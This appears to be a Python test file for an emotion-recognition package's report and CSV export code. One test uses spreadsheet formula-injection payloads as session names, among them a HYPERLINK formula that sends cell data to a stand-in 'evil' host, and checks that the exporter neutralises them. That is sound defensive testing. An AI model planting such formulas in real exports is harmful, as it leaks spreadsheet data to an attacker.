"""emotion_core.report's CSV export opened in a spreadsheet."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from emotion_core import nervousness as nv
from emotion_core import report, stats
from emotion_core.classes import CLASSES


def sad_frames(n: int = 50, fps: float = 5.0) -> pd.DataFrame:
    probs = {c: float(c == "sad") for c in CLASSES}
    return pd.DataFrame(
        [
            {
                "t_s": i / fps,
                "frame": i,
                "face_id": 0,
                "x": 0,
                "y": 0,
                "w": 9,
                "h": 9,
                **probs,
                "label": "sad",
            }
            for i in range(n)
        ]  # fmt: skip
    )


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_a_name_that_looks_like_a_formula_is_exported_as_text(name: str) -> None:
    s = stats.summarize_session(sad_frames(), "s", stats.BootstrapConfig(n_boot=50, seed=0))
    verdict = nv.evaluate_rule(nv.SEED_RULE, s)
    meta = {"session_id": name, "candidate": name, "source": name, "model_name": name}
    text = report.summary_csv([(meta, s, verdict)])
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    for column in ("session_id", "candidate", "source", "model_name"):
        assert row[column] == "'" + name  # a spreadsheet shows it, does not run it
    assert float(row["share_sad"]) == 1.0  # numbers stay numbers
    assert not np.isnan(float(row["duration_s"]))


def test_ordinary_names_are_unchanged() -> None:
    assert report.spreadsheet_safe("Zoë Müller") == "Zoë Müller"
    assert report.spreadsheet_safe("a-b=c") == "a-b=c"  # only a leading sign counts
    assert report.spreadsheet_safe(-0.5) == -0.5


@pytest.fixture
def drawn(monkeypatch: pytest.MonkeyPatch) -> list[np.ndarray]:
    """The values of each bar chart the report draws, in order."""
    values_drawn: list[np.ndarray] = []
    svg_bars = report.svg_bars
    monkeypatch.setattr(
        report,
        "svg_bars",
        lambda values, *a, **k: values_drawn.append(values) or svg_bars(values, *a, **k),
    )
    return values_drawn


def test_a_face_report_shows_that_face_not_the_pooled_figures(drawn: list[np.ndarray]) -> None:
    sad = sad_frames(50)
    happy = sad_frames(50).assign(face_id=1, sad=0.0, happy=1.0, label="happy")
    s = stats.summarize_session(
        pd.concat([sad, happy], ignore_index=True), "two", stats.BootstrapConfig(50, seed=0)
    )
    face = next(f for f in s.faces if f.face_id == 1)
    verdict = nv.evaluate_distribution(nv.SEED_RULE, face.distribution, s.duration_s)
    meta = {"session_id": "two", "candidate": "Two"}
    pooled = report.build_html_report(meta, s, verdict, nv.SEED_RULE)
    happy_at = CLASSES.index("happy")
    assert drawn[0][happy_at] == pytest.approx(0.5)  # shares of all face observations
    drawn.clear()
    one = report.build_html_report(meta, s, verdict, nv.SEED_RULE, face_id=1)
    assert drawn[0][happy_at] == pytest.approx(1.0)  # face 1's own
    assert "Nervousness indicator (heuristic), face 1" in one and "face 1 only" in one
    assert "face 1 only" not in pooled and "all faces" in pooled


def test_a_face_absent_from_the_range_is_reported_empty_not_pooled(
    drawn: list[np.ndarray],
) -> None:
    sad = sad_frames(50)  # face 0 only
    s = stats.summarize_session(sad, "one", stats.BootstrapConfig(50, seed=0))
    absent = s.distribution_of(1)
    assert absent.n_obs == 0 and all(np.isnan(absent.share))
    verdict = nv.evaluate_distribution(nv.SEED_RULE, absent, s.duration_s)
    html = report.build_html_report({"session_id": "one"}, s, verdict, nv.SEED_RULE, face_id=1)
    assert "face 1 only" in html
    assert all(np.isnan(drawn[0])) and all(np.isnan(drawn[1]))  # not face 0's 100% sad


def test_a_session_called_class_can_be_compared() -> None:
    cfg = stats.BootstrapConfig(n_boot=50, seed=0)
    happy = sad_frames(50).assign(sad=0.0, happy=1.0, label="happy")
    a = stats.summarize_session(sad_frames(50), "class", cfg)
    b = stats.summarize_session(happy, "Bob", cfg)
    comparison = stats.compare_sessions([sad_frames(50), happy], ["class", "Bob"], cfg=cfg)
    verdict = nv.evaluate_rule(nv.SEED_RULE, a)
    html = report.build_html_report(
        {"session_id": "class"}, a, verdict, nv.SEED_RULE, comparison=comparison
    )
    table = html[html.index("<h2>Comparison") :]
    assert table.count("<th>class</th>") == 2 and "<th>Bob</th>" in table
    assert b.distribution.share[CLASSES.index("happy")] == 1.0
    assert "each session whole" not in html
    assert "Analysis settings not recorded" in html  # no meta "pipeline" in this session
    assert "<th>seen (s)</th>" in html and "<th>verdict</th>" in html  # per-face table
    settings = {"session_id": "class", "pipeline": {"tta": True, "every": 2}}
    with_tta = report.build_html_report(settings, a, verdict, nv.SEED_RULE, comparison=comparison)
    assert "one frame in 2, mirror TTA" in with_tta
    ranged = report.build_html_report(
        {"session_id": "class"}, a, verdict, nv.SEED_RULE, comparison=comparison, t_range=(0, 5)
    )
    assert "The comparison uses each session whole" in ranged


def test_the_models_table_gives_the_speed_of_the_runtime_the_app_runs(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """EMOTION_RUNTIME=keras makes the app run the Keras network: the table then shows its
    figure and runtime, not the card's faster TFLite one."""
    from emotion_core.inference import ms_per_face_in_use
    from emotion_core.registry import ModelCard

    fast = ModelCard(name="fast", arch="tiny", runtime="tflite", cpu_ms_per_face=0.62,
                     cpu_ms_per_face_keras=3.18)  # fmt: skip
    plain = ModelCard(name="plain", arch="tiny", cpu_ms_per_face=4.3)
    monkeypatch.delenv("EMOTION_RUNTIME", raising=False)
    assert ms_per_face_in_use(fast) == ("tflite", 0.62)
    frame = report.models_frame([fast, plain], default="fast")
    assert dict(zip(frame["model"], frame["ms_per_face"])) == {"fast": 0.62, "plain": 4.3}
    monkeypatch.setenv("EMOTION_RUNTIME", "keras")
    assert ms_per_face_in_use(fast) == ("keras", 3.18)
    assert ms_per_face_in_use(plain) == ("keras", 4.3)  # a Keras card's own figure
    frame = report.models_frame([fast, plain], default="fast")
    assert dict(zip(frame["model"], frame["ms_per_face"])) == {"fast": 3.18, "plain": 4.3}
    assert list(frame["runtime"]) == ["keras", "keras"]
    untimed = ModelCard(name="untimed", arch="tiny", runtime="tflite", cpu_ms_per_face=0.5)
    assert ms_per_face_in_use(untimed) == ("keras", None)  # not the TFLite figure instead


def test_the_verdicts_table_has_one_row_per_session() -> None:
    cfg = stats.BootstrapConfig(n_boot=50, seed=0)
    s = stats.summarize_session(sad_frames(50, fps=3.0), "s", cfg)
    verdict = nv.evaluate_rule(nv.SEED_RULE, s)
    frame = report.verdicts_frame([("Sam", s, verdict), ("Sam #2", s, verdict)])
    assert list(frame.columns) == ["session", "duration (s)", "verdict", "why"]
    assert list(frame["session"]) == ["Sam", "Sam #2"]
    assert frame.loc[0, "duration (s)"] == round(s.duration_s, 1) == 16.3
    assert frame.loc[0, "verdict"] == verdict.verdict and frame.loc[0, "why"] == verdict.summary
    assert list(report.verdicts_frame([]).columns) == list(frame.columns)


def three_way(with_faceless: bool = False) -> stats.Comparison:
    happy = sad_frames(100).assign(sad=0.0, happy=1.0, label="happy")
    third = (
        sad_frames(100).assign(face_id=-1, sad=np.nan, label="")
        if with_faceless
        else sad_frames(100).assign(sad=0.0, angry=1.0, label="angry")
    )
    return stats.compare_sessions(
        [sad_frames(100), happy, third], ["<Ann>", "Bob", "Cy"], cfg=stats.BootstrapConfig(50)
    )


def test_the_pairs_table_has_one_row_per_pair() -> None:
    cmp = three_way(with_faceless=True)
    frame = report.pairs_frame(cmp)
    assert list(frame.columns) == [
        "A", "B", "JS distance", "effect", "p (Holm)", "largest difference"
    ]  # fmt: skip
    assert list(zip(frame["A"], frame["B"])) == [(p.a, p.b) for p in cmp.pairs]
    first = cmp.pairs[0]
    assert frame.loc[0, "JS distance"] == round(first.js_distance, 3)
    assert frame.loc[0, "p (Holm)"] == round(first.p_adjusted, 4)
    assert frame.loc[0, "largest difference"] == first.top_class
    with_cy = frame[frame["B"] == "Cy"]
    assert with_cy["p (Holm)"].isna().all() and (with_cy["effect"] == "n/a").all()


def test_the_html_report_gives_the_pairs_of_three_sessions_not_of_two() -> None:
    cmp = three_way()
    s = stats.summarize_session(sad_frames(100), "<Ann>", stats.BootstrapConfig(50, seed=0))
    verdict = nv.evaluate_rule(nv.SEED_RULE, s)
    html = report.build_html_report({"session_id": "a"}, s, verdict, nv.SEED_RULE, comparison=cmp)
    pairs = html[html.index("<h3>Pairwise comparisons") : html.index("<h2>Model card")]
    for column in ("A", "B", "JS distance", "effect", "p (Holm)", "largest difference"):
        assert f"<th>{column}</th>" in pairs
    assert pairs.count("<td>&lt;Ann&gt;</td>") == 2 and "<Ann>" not in pairs  # escaped
    assert pairs.count("</tr>") == 4  # header + 3 pairs
    assert f"<td>{cmp.pairs[0].p_adjusted:.4f}</td>" in pairs  # p to 4 places, not 3
    two = stats.compare_sessions([sad_frames(100), sad_frames(100)], ["A", "B"])
    html = report.build_html_report({"session_id": "a"}, s, verdict, nv.SEED_RULE, comparison=two)
    assert "<h2>Comparison" in html and "Pairwise comparisons" not in html


def test_rows_left_out_of_a_recording_are_named_in_both_exports() -> None:
    """A recording read with rows left out (a cut-off last line) says so in its CSV row and its
    HTML report, not only on the page: the shares were computed without them."""
    from emotion_core.sessions import load_session_csv

    text = sad_frames().to_csv(index=False)
    session = load_session_csv(io.BytesIO((text + text.splitlines()[1][:12]).encode()), "cut.csv")
    assert session.warnings and "cut off" in session.warnings[0]
    s = stats.summarize_session(session.frames, "s", stats.BootstrapConfig(n_boot=50, seed=0))
    verdict = nv.evaluate_rule(nv.SEED_RULE, s)
    meta = report.export_meta(session)
    (row,) = csv.DictReader(io.StringIO(report.summary_csv([(meta, s, verdict)]), newline=""))
    assert "cut off" in row["data_notes"]
    page = report.build_html_report(meta, s, verdict, nv.SEED_RULE)
    assert "Rows left out" in page and "cut off" in page
    clean = report.export_meta(load_session_csv(io.BytesIO(text.encode()), "whole.csv"))
    (row,) = csv.DictReader(io.StringIO(report.summary_csv([(clean, s, verdict)]), newline=""))
    assert row["data_notes"] == ""
    assert "Rows left out" not in report.build_html_report(clean, s, verdict, nv.SEED_RULE)
